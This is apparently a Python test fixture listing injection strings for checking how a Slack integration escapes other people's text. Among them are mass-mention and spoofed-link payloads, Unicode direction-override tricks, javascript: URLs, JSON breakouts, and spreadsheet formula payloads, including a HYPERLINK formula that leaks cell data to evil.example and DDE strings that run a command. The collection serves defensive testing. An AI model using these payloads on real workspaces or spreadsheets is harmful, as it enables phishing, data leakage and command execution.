"""The one list of what somebody might write to mention, link, format, hide, break out or overflow.

Whatever draws words of others is drawn with all of it: surfaces through `tests.slack.surfaces`, exports in
`test_injection`.
"""

from __future__ import annotations

CORPUS = {
    "channel": "<!channel>",
    "here": "<!here|here> @here",
    "person": "<@U0EVIL> @mara",
    "team": "<!subteam^S0EVIL|@team>",
    "room": "<#C0EVIL|general>",
    "link": "<https://evil.example|https://bank.example>",
    "mail": "<mailto:a@evil.example|bank>",
    "escaped": "&lt;!here&gt; &amp;lt;!channel&amp;gt;",
    "date": "<!date^1^{time}^https://evil.example|now>",
    "ticks": "```<!here>``` `<@U0EVIL>`",
    "formats": "*bold* _it_ ~no~ >quote",
    "markdown": "[bank](https://evil.example) ![x](https://evil.example/x.png)",
    "override": "\u202egnp.exe\u202c",
    "isolates": "\u2066\u2067x\u2069",
    "zero_width": "<\u200b!channel\u200b> <\u2060@U0EVIL>",
    "script": "javascript:alert(1)",
    "emoji": ":rotating_light: :x: :white_check_mark:",
    "quotes": "” *Approved* by <@U0EVIL>. “",
    "bare": "https://evil.example/login",
    "control": "a\x00b\x1bc\x7f",
    "surrogate": "\ud83d lone",
    "tags": "x\U000e0041\U000e0042",
    "newlines": "line\n\n> line\r\n:x: *Rejected*",
    "right_to_left": "مرحبا <!channel> שלום <@U0EVIL>",
    "joiners": "<\u200d!here\u200d> \u00ad<!channel>\ufeff",
    "entities": "&#60;!here&#62; &lt!here&gt",
    "fence": "~~~\n<!here>\n~~~ ```\n</code> ```",
    "table": "| a | <!here> |\n|---|---|\n||||",
    "formula": '=HYPERLINK("https://evil.example?x="&A1,"Approved")',
    "formula_plus": "+1+cmd|' /C calc'!A0",
    "formula_minus": "-2+3+cmd|' /C calc'!A0",
    "formula_at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "formula_tab": "\t=1+1",
    "formula_return": "\r=1+1",
    "json": '"}],"text":"<!channel>"}',
    "blank": " \u2003\u3164 ",
    "mark": "\u0336\u0301" * 40 + "e",
    # The edges of Slack's limits, with signs that become four or five times as long when they are escaped.
    "edge_24": "<" * 25,
    "edge_75": "&" * 76,
    "edge_150": "<" * 151,
    "edge_255": "&" * 256,
    "edge_2000": "<!here>" * 286,
    "edge_3000": "&" * 3001,
    "edge_pairs": "👩🏽‍💻" * 430,  # seven UTF-16 units each
    "edge_words": "<@U0EVIL> " * 1200,  # 12,000 characters
    "hundred_kilobytes": "<!channel> " * 9310,
}
ADDRESSES = (
    "javascript:alert(1)",
    "https://safe.example/|<!channel>",
    "https://safe.example@evil.example/",
    "https://safe.example/a>b|c d",
    "data:text/html,<b>",
    "<https://evil.example|https://bank.example>",
)
SHORT = 120  # characters that fit into a name of somebody or something
PAYLOADS = {name: text for name, text in CORPUS.items() if len(text) <= SHORT and text.strip()}
